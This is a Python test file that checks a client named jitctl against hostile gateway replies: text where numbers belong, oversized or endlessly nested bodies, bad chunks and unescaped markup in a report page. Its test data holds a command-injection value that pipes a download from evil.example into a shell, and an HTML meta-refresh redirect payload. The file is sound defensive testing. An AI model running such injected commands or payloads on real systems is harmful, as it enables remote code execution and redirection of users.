"""Answers of a hostile gateway that have not the form that jitd promises."""

import json
import types
import typing

import pytest

from jitctl.api import answers, transport
from jitctl.render import reporthtml
from jitd import wire
from jitd.core.errors import JitError
from jitd.server.routes import ROUTES
from support.canned_reply import CHUNKED, OK, canned_reply, chunk, failure

MARKUP = "<meta http-equiv=refresh content='0;url=https://evil.example'>"


def kinds(kind: object) -> set[object]:
    """The types that a value may have."""
    origin, inner = typing.get_origin(kind), typing.get_args(kind)
    if origin in (typing.NotRequired, typing.Required, typing.Annotated):
        return kinds(inner[0])
    if origin in (typing.Union, types.UnionType):
        return set().union(*map(kinds, inner))
    return {type(inner[0])} if origin is typing.Literal else {origin or kind}


def objects(kind: object, found: set[type]) -> None:
    """Add every typed dictionary within a type."""
    if typing.is_typeddict(kind):
        assert isinstance(kind, type)
        if kind not in found:
            found.add(kind)
            for one in typing.get_type_hints(kind).values():
                objects(one, found)
    for one in typing.get_args(kind):
        objects(one, found)


def test_the_numbers_are_those_of_every_answer() -> None:
    """What is a number wherever it stands, and nothing else; what has keys of its own is left alone."""
    found: dict[str, set[object]] = {}
    free = set()
    given: set[type] = set()
    for reply in (wire.EventView, *(route.gives for route in ROUTES)):
        objects(reply, given)
    for one in given:
        for name, kind in typing.get_type_hints(one).items():
            found.setdefault(name, set()).update(kinds(kind))
            if dict in kinds(kind) and not typing.is_typeddict(kind):
                free.add(name)
    scalar = {int, float, bool, type(None)}
    assert {name for name, those in found.items() if those <= scalar} == answers.NUMBERS
    assert free - {"by"} == answers.FREE
    assert {name for name, those in found.items() if object in those} == answers.ANY


@pytest.mark.parametrize(
    "said",
    [
        {"id": "1; curl evil.example | sh"},
        {"total": {"asked": MARKUP}},
        {"by": {"user": {"rows": [{"denied": MARKUP}], "of": 1}}},
        {"emergencies": [{"id": MARKUP}]},
        {"ends": [1]},
        {"now": {}},
    ],
)
def test_text_is_never_taken_for_a_number(said: dict[str, object]) -> None:
    """Attack: a gateway puts commands or markup where its user's machine puts a number into a command or a page."""
    error = failure(OK, b"\r\n", json.dumps(said).encode())
    assert (error.code, error.message[-12:]) == ("internal", "not a number")


def test_what_has_keys_of_its_own_is_left_alone() -> None:
    """A setting, or a device, may be called as a number is called elsewhere."""
    said = {"data": {"id": "x"}, "settings": {"max_duration": "8h"}, "id": None, "now": 1.5}
    assert answers.decoded(json.dumps(said).encode(), "") == said


DEEP = b"[" * 200_000


@pytest.mark.parametrize(
    "pieces",
    [
        (OK, b"\r\n", b'{"a":' + DEEP),
        (OK, b"\r\n", b'{"a": ' + b"9" * 5000 + b"}"),
        (OK, b"\r\n", b'{"a": "\xff"}'),
        (OK, b"Content-Length: " + b"9" * 5000 + b"\r\n\r\n"),
        (OK, b"Content-Length: 99999999999\r\n\r\n"),
        (b"HTTP/1.1 " + b"2" * 4000 + b"\r\n\r\n{}",),
        (OK, b"X: y\r\n" * 5000),
        (CHUNKED, b"-5\r\nabcdef"),
        (CHUNKED, b"fffffffffff\r\nabcdef"),
    ],
    ids=["deep", "digits", "no UTF-8", "long length", "huge", "status", "headers", "negative", "huge chunk"],
)
def test_an_answer_is_read_within_bounds(pieces: tuple[bytes, ...]) -> None:
    """Attack: a gateway makes jitctl run out of memory, time or stack. It is an answer that cannot be read, and no more."""
    assert failure(*pieces).code == "unreachable"


@pytest.mark.parametrize("length", [True, False])
def test_an_answer_has_an_end(monkeypatch: pytest.MonkeyPatch, *, length: bool) -> None:
    """Attack: a gateway goes on answering until the laptop has no memory left, by one long body, or in chunks."""
    monkeypatch.setattr(answers, "MOST_BYTES", 1000)
    pieces = [chunk(b"x" * 600), chunk(b"y" * 600), b"0\r\n\r\n"]
    error = failure(OK, b"\r\n", b"x" * 1200) if length else failure(CHUNKED, *pieces)
    assert "longer than any reply" in error.message
    for made in ((CHUNKED, *pieces), (OK, b"\r\n", b"x" * 1200)):
        with canned_reply(*made) as (channel, _), pytest.raises(JitError, match="longer than any reply"):
            list(transport.follow(channel, "/v1/events"))


@pytest.mark.parametrize("line", [DEEP, b"1", b'"x"', b"{", b'{"seq": "x"}'])
def test_a_stream_of_other_things_is_an_error(line: bytes) -> None:
    """Attack: lines that are no events end the stream with an error, and not with a traceback."""
    with canned_reply(OK, b"\r\n", line, b"\n") as (channel, _), pytest.raises(JitError):
        list(transport.follow(channel, "/v1/events"))


def test_a_page_escapes_what_it_is_given() -> None:
    """Attack: markup in the place of numbers, were it to come so far, is text in the page."""
    emergency = {"id": MARKUP, "user": "u", "network": "n", "at": 0, "reason": "r", "reviewed_by": ""}
    page = "".join(reporthtml._emergencies({"emergencies": [emergency]}))  # type: ignore[typeddict-item]  # one more key than jitd sends
    assert "<meta" not in page
